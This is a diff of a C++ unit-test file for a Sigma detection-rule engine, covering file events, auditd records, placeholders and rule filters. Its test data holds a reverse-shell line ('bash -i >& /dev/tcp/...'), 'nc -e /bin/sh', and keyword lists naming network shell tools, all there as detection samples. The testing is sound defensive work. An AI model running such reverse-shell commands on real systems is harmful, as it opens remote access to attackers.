@@ -1,60 +1,16 @@
 #include "sigma/rule_set.h"
 
-#include <cstdlib>
-#include <filesystem>
-#include <fstream>
-#include <map>
-#include <random>
-#include <sstream>
-
 #include <gtest/gtest.h>
 
-#include "sigma/reference_testing.h"
+#include "sigma/rule_set_testing.h"
 
 namespace sigma {
 namespace {
 
-std::string read(const std::filesystem::path& path) {
-  std::ifstream file(path);
-  std::ostringstream text;
-  text << file.rdbuf();
-  return text.str();
-}
-
-schema::Event process(std::string executable, std::string command_line,
-                      schema::ExtraDetails extra = {}) {
-  schema::ProcessCreate item;
-  item.executable = std::move(executable);
-  item.command_line = std::move(command_line);
-  item.process_id = 4242;
-  item.parent_process_id = 1;
-  item.user_id = "0";
-  item.user_name = "root";
-  item.extra_details = std::move(extra);
-  schema::Event event;
-  event.payload = schema::payload_of(std::move(item));
-  return event;
-}
-
-RuleSet rules_of(const std::string& detection,
-                 const std::string& source = "product: linux\n  category: process_creation") {
-  RuleSet set;
-  auto parsed = parse("title: Test\nlogsource:\n  " + source + "\ndetection:\n" + detection);
-  EXPECT_EQ(parsed.problems.size(), 0U) << parsed.problems.front().to_string("test");
-  for (Rule& rule : parsed.rules) {
-    const auto added = set.add(std::move(rule));
-    EXPECT_TRUE(added) << added.error().problem.to_string("test");
-  }
-  set.build();
-  return set;
-}
-
-std::vector<Hit> hits(const RuleSet& set, const schema::Event& event) {
-  RuleSet::Scratch scratch;
-  std::vector<Hit> found;
-  set.match(event, 0, scratch, found);
-  return found;
-}
+using tests::event_with;
+using tests::hits;
+using tests::process;
+using tests::rules_of;
 
 TEST(RuleSet, MapsSigmasNamesToOurFields) {
   struct Case {
@@ -155,6 +111,203 @@ TEST(RuleSet, ConnectionsAndOurOwnEvents) {
   EXPECT_EQ(hits(logins, event).size(), 1U);
 }
 
+TEST(RuleSet, FileEvents) {
+  schema::FileEvent item;
+  item.path = "/etc/cron.d/x";
+  item.operation = schema::FileOperation::Create;
+  item.executable = "/usr/bin/wget";
+  const std::string detection =
+      "  s: {TargetFilename|startswith: /etc/cron.d/, Image|endswith: /wget}\n"
+      "  condition: s\n";
+  const auto made = rules_of(detection, "product: linux\n  category: file_event");
+  EXPECT_EQ(hits(made, event_with(item)).size(), 1U);
+  const auto deleted = rules_of(detection, "product: linux\n  category: file_delete");
+  EXPECT_EQ(hits(deleted, event_with(item)).size(), 0U);
+  item.operation = schema::FileOperation::Delete;
+  EXPECT_EQ(hits(made, event_with(item)).size(), 0U);
+  EXPECT_EQ(hits(deleted, event_with(item)).size(), 1U);
+  // What is renamed lies where its new name says.
+  item.operation = schema::FileOperation::Rename;
+  item.path = "/tmp/y";
+  item.new_path = "/etc/cron.d/x";
+  const auto found = hits(made, event_with(item));
+  ASSERT_EQ(found.size(), 1U);
+  EXPECT_EQ(found[0].matched[0].value, "/etc/cron.d/x");
+  const auto source = rules_of("  s: {SourceFilename: /tmp/y}\n  condition: s\n",
+                               "product: linux\n  category: file_rename");
+  EXPECT_EQ(hits(source, event_with(item)).size(), 1U);
+}
+
+TEST(RuleSet, AuditRecords) {
+  struct Case {
+    const char* test;
+    const char* type;
+    const char* record;
+    bool holds;
+  };
+  const char* const call =
+      "arch=c000003e syscall=319 success=yes exit=3 a0=7ffd a1=1 pid=7 auid=1000 euid=33 "
+      "comm=\"a b\" exe=\"/usr/bin/x\" key=\"mem\"";
+  for (const Case& test : std::initializer_list<Case>{
+           {"{type: SYSCALL, SYSCALL: memfd_create}", "SYSCALL", call, true},
+           {"{type: SYSCALL, SYSCALL: mknod}", "SYSCALL", call, false},
+           {"{SYSCALL: memfd_create}", "SYSCALL", "arch=c00000b7 syscall=279", true},
+           {"{SYSCALL: memfd_create}", "SYSCALL", "syscall=1 SYSCALL=memfd_create", true},
+           {"{SYSCALL: memfd_create}", "SYSCALL", "arch=zzz syscall=319", false},
+           {"{a0: 7ffd, key: mem, euid: 33}", "SYSCALL", call, true},
+           {"{comm: 'a b'}", "SYSCALL", call, true},
+           {"{comm: 'a b'}", "SYSCALL", "comm=612062", true},
+           {"{key|exists: false}", "SYSCALL", "comm=612062 key=(null)", true},
+           {"{a0: chmod, a1: '+s x'}", "EXECVE", "argc=2 a0=\"chmod\" a1=2B732078", true},
+           {"{a1: '2B732078'}", "SYSCALL", "a1=2B732078", true},
+           {"{name|startswith: /etc/}", "PATH", "item=0 name=\"/etc/passwd\" nametype=NORMAL",
+            true},
+           {"{Record.unit: auditd}", "SERVICE_STOP", "pid=1 msg='unit=auditd comm=\"systemd\"'",
+            true},
+           {"{type: SERVICE_STOP, unit: [auditd, ufw]}", "SERVICE_STOP",
+            "msg='unit=ufw res=success'", true}}) {
+    const auto set = rules_of(std::string("  s: ") + test.test + "\n  condition: s\n",
+                              "product: linux\n  service: auditd");
+    schema::AuditRecord item;
+    item.record_type = test.type;
+    item.record = test.record;
+    EXPECT_EQ(hits(set, event_with(item)).size(), test.holds ? 1U : 0U)
+        << test.test << " " << test.record;
+  }
+}
+
+TEST(RuleSet, ARuleForLinuxLooksAtAllThatHappens) {
+  const auto set =
+      rules_of("  words: ['/dev/tcp/', 'nc -e']\n  condition: words\n", "product: linux");
+  EXPECT_EQ(hits(set, process("/bin/bash", "bash -i >& /dev/tcp/192.0.2.1/1")).size(), 1U);
+  schema::AuditRecord record;
+  record.record_type = "USER_CMD";
+  record.record = "msg='cmd=nc -e /bin/sh'";
+  EXPECT_EQ(hits(set, event_with(record)).size(), 1U);
+  schema::FileEvent file;
+  file.path = "/dev/tcp/1";
+  EXPECT_EQ(hits(set, event_with(file)).size(), 1U);
+  EXPECT_EQ(hits(set, event_with(schema::Heartbeat())).size(), 0U);
+  // With fields, those events that have them.
+  const auto lines =
+      rules_of("  s: {CommandLine|contains: secret}\n  condition: s\n", "product: linux");
+  EXPECT_EQ(hits(lines, process("/bin/a", "a secret")).size(), 1U);
+  schema::Login login;
+  login.user_name = "secret";
+  EXPECT_EQ(hits(lines, event_with(login)).size(), 0U);
+}
+
+TEST(RuleSet, TheEventsTime) {
+  auto event = process("/bin/a", "a");
+  event.time = *base::parse_rfc3339("2026-03-01T23:30:00+01:00");
+  const auto local = rules_of("  s: {TimestampLocal|hour|gte: 23}\n  condition: s\n");
+  const auto utc = rules_of("  s: {TimestampUTC|hour: [22]}\n  condition: s\n");
+  EXPECT_EQ(hits(local, event).size(), 1U);
+  EXPECT_EQ(hits(utc, event).size(), 1U);
+  event.time.utc += std::chrono::hours{1};
+  EXPECT_EQ(hits(local, event).size(), 0U);
+  EXPECT_EQ(hits(utc, event).size(), 0U);
+}
+
+TEST(RuleSet, PlaceholdersAreListsOfValues) {
+  const Placeholders lists = {{"admins", {"root", "adm_*"}}, {"tools", {"nc", "socat"}}};
+  const auto set_of = [&](const std::string& test) {
+    RuleSet set;
+    auto parsed = parse("title: t\nlogsource: {category: process_creation}\ndetection:\n  s: {" +
+                            test + "}\n  condition: s\n",
+                        lists);
+    EXPECT_EQ(parsed.problems.size(), 0U) << parsed.problems[0].to_string("t");
+    for (Rule& rule : parsed.rules)
+      EXPECT_TRUE(set.add(std::move(rule)));
+    set.build();
+    return set;
+  };
+  const auto event = process("/bin/x", "socat as a.b");
+  EXPECT_EQ(hits(set_of("User|expand: '%admins%'"), event).size(), 1U);
+  EXPECT_EQ(hits(set_of("User|expand|neq: '%admins%'"), event).size(), 0U);
+  EXPECT_EQ(hits(set_of("CommandLine|startswith|expand: '%tools% '"), event).size(), 1U);
+  EXPECT_EQ(hits(set_of("CommandLine|contains|all|expand: ['%tools%', ' as ']"), event).size(), 1U);
+  EXPECT_EQ(hits(set_of("CommandLine|contains|all|expand: ['%tools%', ' is ']"), event).size(), 0U);
+  EXPECT_EQ(hits(set_of("CommandLine|re|expand: '^(%tools%) .s'"), event).size(), 1U);
+  EXPECT_EQ(hits(set_of("CommandLine|re|all|expand: ['^%tools%', 'a.b$']"), event).size(), 1U);
+}
+
+constexpr std::string_view kShellRule =
+    "title: Shell\nid: 0d9d37ab-2b7c-4a0f-9a94-2f8d7cf3c2a1\nname: shell_started\n"
+    "logsource: {product: linux, category: process_creation}\n"
+    "detection: {s: {Image|endswith: /sh}, condition: s}\n";
+
+RuleSet filtered(const std::string& filter, std::vector<Problem>* problems = nullptr) {
+  RuleSet set;
+  for (Rule& rule : parse(kShellRule).rules)
+    EXPECT_TRUE(set.add(std::move(rule)));
+  auto parsed = parse(filter);
+  EXPECT_EQ(parsed.problems.size(), 0U) << parsed.problems[0].to_string("filter");
+  for (const Filter& one : parsed.filters) {
+    for (Problem& problem : set.leave_out(one)) {
+      EXPECT_NE(problems, nullptr) << problem.to_string("filter");
+      if (problems != nullptr) problems->push_back(std::move(problem));
+    }
+  }
+  set.build();
+  return set;
+}
+
+TEST(RuleSet, FiltersLeaveOutWhatTheyDescribe) {
+  for (const char* rules : {"[0d9d37ab-2b7c-4a0f-9a94-2f8d7cf3c2a1]", "shell_started", "any"}) {
+    for (const char* condition : {"backup or cron", "not (backup or cron)", "1 of them"}) {
+      const auto set =
+          filtered(std::string("title: f\nlogsource: {category: process_creation}\n"
+                               "filter:\n  rules: ") +
+                   rules + "\n  backup: {CommandLine|contains: backup}\n" +
+                   "  cron: {ParentImage|endswith: /cron}\n  condition: " + condition + "\n");
+      EXPECT_EQ(hits(set, process("/bin/sh", "sh x")).size(), 1U) << rules << condition;
+      EXPECT_EQ(hits(set, process("/bin/sh", "sh backup.sh")).size(), 0U) << rules << condition;
+      EXPECT_EQ(
+          hits(set, process("/bin/sh", "sh x", {{"ParentExecutable", "/usr/sbin/cron"}})).size(),
+          0U);
+    }
+  }
+}
+
+TEST(RuleSet, SeveralFiltersOfOneRule) {
+  const auto set = filtered(
+      "title: a\nlogsource: {}\nfilter: {rules: any, s: {User: a}, condition: s}\n---\n"
+      "title: b\nlogsource: {}\nfilter: {rules: any, s: {CommandLine: b}, condition: s}\n");
+  EXPECT_EQ(hits(set, process("/bin/sh", "c")).size(), 1U);
+  EXPECT_EQ(hits(set, process("/bin/sh", "b")).size(), 0U);
+}
+
+TEST(RuleSet, SaysWhichFiltersCannotBe) {
+  struct Case {
+    const char* filter;
+    const char* problem;
+  };
+  for (const Case& test : std::initializer_list<Case>{
+           {"{rules: [shell_startd], s: {User: a}, condition: s}",
+            "f:3:18: expected the id or the name of a rule that is in force, found 'shell_startd' "
+            "(did you mean 'shell_started'?)"},
+           {"{rules: [shell_started], s: {Usr: a}, condition: s}",
+            "f:3:38: expected a field of ProcessCreate or ExtraDetails.<name>, found 'Usr' (did "
+            "you "
+            "mean 'User'?)"}}) {
+    std::vector<Problem> problems;
+    const auto set = filtered(
+        std::string("title: f\nlogsource: {product: linux}\nfilter: ") + test.filter + "\n",
+        &problems);
+    ASSERT_EQ(problems.size(), 1U) << test.filter;
+    EXPECT_EQ(problems[0].to_string("f"), test.problem);
+    EXPECT_EQ(hits(set, process("/bin/sh", "x")).size(), 1U) << "the rule goes on";
+  }
+  std::vector<Problem> problems;
+  filtered(
+      "title: f\nlogsource: {category: file_event}\n"
+      "filter: {rules: shell_started, s: {User: a}, condition: s}\n",
+      &problems);
+  ASSERT_EQ(problems.size(), 1U);
+  EXPECT_NE(problems[0].message.find("another log source"), std::string::npos);
+}
+
 TEST(RuleSet, RefusesWhatItCannotRun) {
   struct Case {
     const char* source;
@@ -163,12 +316,17 @@ TEST(RuleSet, RefusesWhatItCannotRun) {
     const char* message;
   };
   for (const Case& test : std::initializer_list<Case>{
-           {"{product: linux, service: auditd}", "{s: {type: EXECVE}, condition: s}",
-            Refusal::Kind::NoEvents, "product=linux service=auditd"},
+           {"{product: linux, service: sshd}", "{s: [error], condition: s}",
+            Refusal::Kind::NoEvents,
+            "product=linux service=sshd: agents send events, not the lines of that log"},
+           {"{product: linux, service: auditd}", "{s: {type: EXECVE, AUID: 0}, condition: s}",
+            Refusal::Kind::Wrong, "expected a field of AuditRecord"},
+           {"{category: dns_query}", "{s: {QueryName: x}, condition: s}", Refusal::Kind::NoEvents,
+            "category=dns_query"},
            {"{product: windows, category: process_creation}", "{s: {Image: x}, condition: s}",
             Refusal::Kind::NoEvents, "windows"},
            {"{product: vedette, category: Logon}", "{s: {Result: x}, condition: s}",
-            Refusal::Kind::NoEvents, "category=Logon"},
+            Refusal::Kind::NoEvents, "category=Logon (did you mean 'Login'?)"},
            {"{category: process_creation}", "{s: {Imag: x}, condition: s}", Refusal::Kind::Wrong,
             "did you mean 'Image'?"},
            {"{category: process_creation}", "{s: {Image|re: '('}, condition: s}",
@@ -198,168 +356,6 @@ TEST(RuleSet, ALaterRuleOfTheSameIdReplacesTheEarlier) {
   EXPECT_EQ(set.size(), 1U);
   EXPECT_EQ(hits(set, process("a", "")).size(), 0U);
   EXPECT_EQ(hits(set, process("b", "")).size(), 1U);
-}
-
-// Compiled rules against the plain reading of the specification, on random rules and events.
-TEST(RuleSet, AgreesWithTheReferenceInterpreter) {
-  std::minstd_rand random(7);
-  const auto pick = [&](const std::vector<std::string>& from) {
-    return from[random() % from.size()];
-  };
-  const std::vector<std::string> texts = {
-      "",           "a",        "ab",         "AB", "abc", "b",    "bc",  "a.b", "xmrig",
-      "/usr/bin/a", "10.0.0.1", "10.0.0.200", "5",  "17",  "-o a", "a*b", "aXb"};
-  const std::vector<std::string> keys = {"CommandLine",
-                                         "CommandLine|contains",
-                                         "CommandLine|startswith",
-                                         "CommandLine|endswith",
-                                         "CommandLine|re",
-                                         "CommandLine|re|i",
-                                         "CommandLine|cased",
-                                         "CommandLine|contains|cased",
-                                         "CommandLine|contains|all",
-                                         "CommandLine|neq",
-                                         "Image",
-                                         "Image|endswith",
-                                         "Image|contains|neq",
-                                         "ParentImage|contains",
-                                         "ParentImage|startswith|all",
-                                         "CommandLine|windash|contains",
-                                         "CommandLine|base64offset|contains"};
-  const std::vector<std::string> values = {"a", "b",  "AB", "'a*'",  "'*b*'", "'a?b'", "'a\\*b'",
-                                           "c", "''", "bc", "xmrig", "10",    "'-o'"};
-  const auto test_text = [&] {
-    const auto special = random() % 12;
-    if (special == 0) return std::string("CommandLine|cidr: 10.0.0.0/25");
-    if (special == 1)
-      return "CommandLine|" + pick({"lt", "lte", "gt", "gte"}) + ": " + pick({"5", "10", "17"});
-    if (special == 2) return "ParentImage|exists: " + pick({"true", "false"});
-    if (special == 3) return "ParentImage: null" + std::string();
-    if (special == 4) return std::string("CommandLine|fieldref: ParentImage");
-    std::string key = pick(keys);
-    const auto value = [&] {
-      if (key.find("|re") != std::string::npos)
-        return pick({"'^a'", "'b$'", "'a.b'", "'[ab]+c'", "'x|b'"});
-      if (key.find("base64") != std::string::npos) return pick({"ab", "xmrig", "a.b"});
-      return pick(values);
-    };
-    if (random() % 2 == 0) return key + ": " + value();
-    return key + ": [" + value() + ", " + value() + "]";
-  };
-  const auto selection = [&] {
-    if (random() % 3 != 0) return "{" + test_text() + "}";
-    return "[{" + test_text() + "}, {" + test_text() + "}]";
-  };
-  std::size_t matched = 0;
-  for (int round = 0; round < 3000; ++round) {
-    const std::string yaml =
-        "title: t\nlogsource: {category: process_creation}\ndetection:\n  s1: " + selection() +
-        "\n  s2: " + selection() + "\n  f1: " + selection() + "\n  condition: " +
-        pick({"s1", "s1 and s2", "s1 or s2", "s1 and not f1", "1 of s*", "all of s*", "2 of them",
-              "not s1 and not 1 of f*", "(s1 or f1) and s2", "all of them"}) +
-        "\n";
-    auto parsed = parse(yaml);
-    ASSERT_EQ(parsed.rules.size(), 1U) << yaml << parsed.problems.at(0).to_string("rule");
-    const Rule rule = parsed.rules[0];
-    RuleSet set;
-    ASSERT_TRUE(set.add(rule)) << yaml;
-    set.build();
-    for (int i = 0; i < 10; ++i) {
-      const std::string image = pick(texts);
-      const std::string command = pick(texts);
-      const std::string parent = pick(texts);
-      const bool has_parent = random() % 2 == 0;
-      const auto event = process(
-          image, command,
-          has_parent ? schema::ExtraDetails{{"ParentExecutable", parent}} : schema::ExtraDetails{});
-      const auto lookup = [&](std::string_view field) -> std::optional<std::string> {
-        if (field == "Image") return image;
-        if (field == "CommandLine") return command;
-        if (field == "ParentImage" && has_parent) return parent;
-        return std::nullopt;
-      };
-      const bool expected = reference::holds(rule, lookup);
-      const auto found = hits(set, event);
-      ASSERT_EQ(!found.empty(), expected) << yaml << "Image=" << image << " CommandLine=" << command
-                                          << " ParentImage=" << (has_parent ? parent : "-");
-      matched += expected ? 1U : 0U;
-    }
-  }
-  EXPECT_GT(matched, 3000U);
-  EXPECT_LT(matched, 27'000U);
-}
-
-std::optional<std::filesystem::path> shared_folder() {
-  if (const char* named = std::getenv("VEDETTE_SHARED")) return std::filesystem::path(named);
-  if (const char* source = std::getenv("VEDETTE_SOURCE_DIR")) {
-    auto beside = std::filesystem::path(source) / ".." / "shared";
-    if (std::filesystem::exists(beside)) return beside;
-  }
-  return std::nullopt;
-}
-
-// The public Linux rules, where somebody has put them: none may crash, none that we have events for
-// may be refused, and compiled and reference must agree on real command lines.
-TEST(RuleSet, TakesThePublicLinuxRules) {
-  const auto shared = shared_folder();
-  const auto corpus = shared ? *shared / "corpora" / "sigma-linux" : std::filesystem::path();
-  if (!std::filesystem::exists(corpus))
-    GTEST_SKIP() << "no corpora/sigma-linux in VEDETTE_SHARED or ../shared";
-  RuleSet set;
-  std::vector<Rule> kept;
-  std::map<std::string, int> without_events;
-  int files = 0;
-  for (const auto& entry : std::filesystem::recursive_directory_iterator(corpus)) {
-    if (entry.path().extension() != ".yml") continue;
-    ++files;
-    auto parsed = parse(read(entry.path()));
-    EXPECT_EQ(parsed.problems.size(), 0U)
-        << parsed.problems.front().to_string(entry.path().string());
-    for (Rule& rule : parsed.rules) {
-      const Rule copy = rule;
-      auto added = set.add(std::move(rule));
-      if (added) {
-        kept.push_back(copy);
-        continue;
-      }
-      EXPECT_EQ(added.error().kind, Refusal::Kind::NoEvents)
-          << added.error().problem.to_string(entry.path().string());
-      ++without_events[added.error().problem.message];
-    }
-  }
-  set.build();
-  std::cout << "public Linux rules: " << files << " files, " << set.size() << " compiled\n";
-  for (const auto& [reason, count] : without_events)
-    std::cout << "  " << count << ": " << reason << "\n";
-  EXPECT_EQ(files, 214);
-  EXPECT_GE(set.size(), 129U);
-
-  std::ifstream commands(*shared / "corpora" / "atomics_linux.tsv");
-  std::string line;
-  RuleSet::Scratch scratch;
-  std::size_t lines = 0;
-  while (std::getline(commands, line) && lines < 400) {
-    ++lines;
-    const std::string text = base::to_utf8(line.substr(0, 400));
-    const std::string image = "/usr/bin/" + text.substr(0, text.find(' '));
-    std::vector<Hit> found;
-    set.match(process(image, text), 0, scratch, found);
-    std::size_t at = 0;
-    for (const Rule& rule : kept) {
-      if (rule.log_source.category != "process_creation") continue;
-      const bool expected =
-          reference::holds(rule, [&](std::string_view field) -> std::optional<std::string> {
-            if (field == "Image") return image;
-            if (field == "CommandLine") return text;
-            if (field == "User") return "root";
-            return std::nullopt;
-          });
-      const bool actual = at < found.size() && found[at].rule->id == rule.id;
-      ASSERT_EQ(actual, expected) << rule.title << "\n" << text;
-      at += actual ? 1U : 0U;
-    }
-    ASSERT_EQ(at, found.size());
-  }
 }
 
 }  // namespace
